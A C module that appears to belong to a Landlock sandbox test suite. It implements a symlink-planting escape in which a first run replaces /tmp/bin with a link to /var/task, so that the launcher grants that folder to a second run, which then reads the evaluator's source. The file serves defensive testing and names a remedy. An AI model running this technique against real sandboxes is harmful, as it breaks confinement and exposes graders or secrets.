// SPDX-License-Identifier: MIT
/*
 * planted-rule.c - the student who was here before writes the rules.
 *
 * Goal: the evaluator's source, which no rule allows.
 * Means: a rule is a folder, and a folder is opened by its name. One that lies in /tmp, for the
 * student's own programs, is the student's: the first run puts a symbolic link in its place, and
 * the launcher of the second run grants the folder that it leads to.
 *
 *     first run:   rmdir /tmp/bin; /tmp/bin -> /var/task
 *     launcher:    open("/tmp/bin", O_PATH), landlock_add_rule: reading and executing below it
 *     second run:  open /var/task/evaluator.py
 */
#include "attacks/attack.h"

#include <fcntl.h>
#include <unistd.h>

static enum claim run(const struct brief *b)
{
	char source[4096];
	ssize_t n;
	int fd;

	attempting(b);
	fd = open("/var/task/evaluator.py", O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return denied("open /var/task/evaluator.py");
	n = read(fd, source, sizeof(source));
	if (n > 0)
		loot(source, (size_t)n);
	close(fd);
	return n > 0 ? CLAIM_DONE : denied("read");
}

/* The first run. Where it may not do this, the second one finds no door. */
static enum claim plant(const struct brief *b)
{
	(void)b;
	rmdir("/tmp/bin");
	if (symlink("/var/task", "/tmp/bin"))
		denied("symlink");
	return CLAIM_DONE;
}

const struct attack attack = {
	.effect = "a file that no rule allows is read, in the student's second run",
	.means = "a symbolic link, left by the first run where the launcher looks for a folder",
	.oracle = "secret:task",
	.scene = SCENE_AFTER_VICTIM,
	.control = "landlock-8", /* a launcher that grants /tmp/bin; elsewhere it is a plain read */
	.id = "LLK-10",
	.attack_id = "T1562.001, CWE-59, CWE-379",
	.remedy = "openat2(2) with RESOLVE_NO_SYMLINKS for rules; a fresh folder for each run",
	.refs = (const char *const[]){ "landlock_add_rule(2)", "openat2(2)", NULL },
	.run = run,
	.victim = plant,
};
